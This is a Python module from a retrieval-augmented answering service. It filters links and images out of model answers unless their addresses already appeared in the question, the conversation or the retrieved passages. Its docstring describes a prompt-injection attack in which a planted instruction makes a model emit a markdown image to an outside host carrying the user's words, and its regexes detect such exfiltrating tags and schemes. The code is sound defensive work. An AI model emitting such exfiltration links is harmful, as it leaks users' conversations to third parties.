"""May an answer send its reader's browser anywhere? Only to addresses that were in front of the model as they stand.

An instruction in a document can make a model write `![](https://elsewhere/?what-the-asker-said)`: whoever shows the
answer fetches it, and so tells it. An address that stands in the passages, the question or the conversation carries
nothing that was not there.
"""

import html
import re
from collections.abc import Iterable
from functools import cached_property
from typing import Literal

from haystack import Document

from ragsaver.components.request import current_request

Policy = Literal["given", "none", "all"]

NO_LINK, NO_IMAGE = "(link removed)", "(image removed)"

_HELD_CHARS = 4000
_MOST_STEPS = 6  # of what is unfinished before something unfinished: a list of references without addresses, say
_IMAGE = re.compile(r"!\[([^\[\]]*)\]\(\s*<?([^()\s>]*(?:\([^()\s]*\)[^()\s>]*)*)>?[^()]*\)")
_LINK = re.compile(r"(?<!!)\[([^\[\]]*)\]\(\s*<?([^()\s>]*(?:\([^()\s]*\)[^()\s>]*)*)>?[^()]*\)")
_TAIL = re.compile(r"\]\(\s*<?([^()\s>]*)>?[^()]*\)?")
_REFERENCE = re.compile(r"^[ \t>*+-]{0,12}\[[^\]\n]+\]:[ \t]*\n?[ \t]*<?([^\s>]+)>?.*$", re.MULTILINE)
_TAG = re.compile(r"<[a-zA-Z][^<>]*(?:>|\Z|(?=<))")
_FETCHES = re.compile(
    r"[\s/\"'](?:src|srcset|href|xlink:href|action|formaction|data|poster|background|style|ping|cite|content|on\w+)\s*=",
    re.IGNORECASE,
)
_BARE = re.compile(
    r"(?:[a-zA-Z][a-zA-Z0-9+.-]{0,40}:(?:\\?/){2}|\b(?:www\.|data:|javascript:))[^\s<>\"`|\\]+", re.IGNORECASE
)
_BEHIND = ".,;:!?)]}'*_~"
# An empty line so far, a word, a reference with its address on the same line or the next. Nothing is tried twice
# (`*+`), here and where brackets are looked for: what is read may be written against it.
_OPEN = re.compile(r"\n[ \t>*+-]*+\Z|(?<!\S)\S*+\Z|(?:(?<=\n)|\A)[ \t>*+-]{0,12}\[[^\]\n]++\]:[^\n]*+\n?+[^\n]*+\Z")


class LinkFilter:
    """Takes addresses that nobody gave out of an answer, whole or as it comes.

    :param policy: `given` keeps addresses that stand in `texts`, `none` keeps no address, `all` keeps all.
    :param texts: what was in front of the model.
    """

    def __init__(self, policy: Policy, texts: Iterable[str]) -> None:
        self.policy = policy
        self._texts = "\n".join(texts) if policy == "given" else ""
        self._held = ""

    @cached_property
    def _given(self) -> frozenset[str]:
        """The addresses that may stay; an answer without any never asks for them."""
        there = {_bare(found.group()) for found in _BARE.finditer(self._texts)}
        there |= {found.group(1) for pattern in (_TAIL, _REFERENCE) for found in pattern.finditer(self._texts)}
        return frozenset(there)

    def clean(self, text: str) -> str:
        """The answer without them: of an image its description stays, of a link its words."""
        if self.policy == "all":
            return text
        text = _IMAGE.sub(lambda found: self._words(found, NO_IMAGE), text)
        text = _LINK.sub(lambda found: self._words(found, NO_LINK), text)
        text = _TAG.sub(lambda tag: tag.group() if self._harmless(tag.group()) else NO_LINK, text)
        text = _REFERENCE.sub(lambda found: found.group() if self._good(found.group(1)) else "", text)
        text = _TAIL.sub(lambda found: found.group() if self._good(found.group(1)) else "]", text)
        return _BARE.sub(self._kept, text)

    def feed(self, piece: str) -> str:
        """What may be told of a text that comes in pieces; an address is held back until it is complete, and all where
        something has been unfinished for very long: half of it would tell what the whole may not.
        """
        if self.policy == "all":
            return piece
        self._held += piece
        if len(self._held) > _HELD_CHARS:
            return ""
        cut = self._complete()
        ready, self._held = self._held[:cut], self._held[cut:]
        return self.clean(ready)

    def _complete(self) -> int:
        """How much of what is held ends before anything unfinished; nothing where that takes too long to tell."""
        cut = len(self._held)
        for _ in range(_MOST_STEPS):
            begins = _unfinished(self._held, cut)
            if begins >= cut:
                return cut
            cut = begins
        return 0

    def rest(self) -> str:
        """What was held back until the end."""
        held, self._held = self._held, ""
        return self.clean(held)

    def _words(self, link: re.Match[str], instead: str) -> str:
        return link.group() if self._good(link.group(2)) else link.group(1).strip() or instead

    def _kept(self, address: re.Match[str]) -> str:
        bare = _bare(address.group())
        return address.group() if self._good(bare) else NO_LINK + address.group()[len(bare) :]

    def _good(self, address: str) -> bool:
        address = html.unescape(address)
        return address.startswith("#") or address in self._given or _bare(address) in self._given

    def _harmless(self, tag: str) -> bool:
        return not _FETCHES.search(tag) or (self.policy == "given" and tag in self._texts)


def in_front_of_the_model(query: str, documents: Iterable[Document]) -> list[str]:
    """The question, the conversation, and the passages with their headings."""
    request = current_request()
    said = [request.asked or "", *(text for _, text in request.history)] if request else []
    passages = [
        f"{document.meta.get('source', '')}\n{document.meta.get('heading', '')}\n{document.content or ''}"
        for document in documents
    ]
    return [query, *said, *passages]


def _unfinished(text: str, end: int) -> int:
    """Where the first thing begins that may go on behind `end`; `end` if there is none."""
    found = _OPEN.search(text, 0, end)
    tag = text.find("<", text.rfind(">", 0, end) + 1, end)
    starts = (found.start() if found else -1, tag, _open_bracket(text, end))
    return min((one for one in starts if one >= 0), default=end)


def _open_bracket(text: str, end: int) -> int:
    """Where the first link or image begins that is not closed; -1 if there is none."""
    last = text.rfind("]", 0, end)
    starts = [text.find("[", last + 1, end)]
    if last == end - 1 and last >= 0:
        starts.append(_opened_before(text, last))
    closed = text.find("](", text.rfind(")", 0, end) + 1, end)
    while closed >= 0 and (start := _opened_before(text, closed)) < 0:
        closed = text.find("](", closed + 1, end)
    if closed >= 0:
        starts.append(start)
    begins = min((one for one in starts if one >= 0), default=-1)
    return begins - 1 if begins > 0 and text[begins - 1] == "!" else begins


def _opened_before(text: str, bracket: int) -> int:
    return text.find("[", text.rfind("]", 0, bracket) + 1, bracket)


def _bare(address: str) -> str:
    """Without the punctuation behind it."""
    return address.rstrip(_BEHIND)
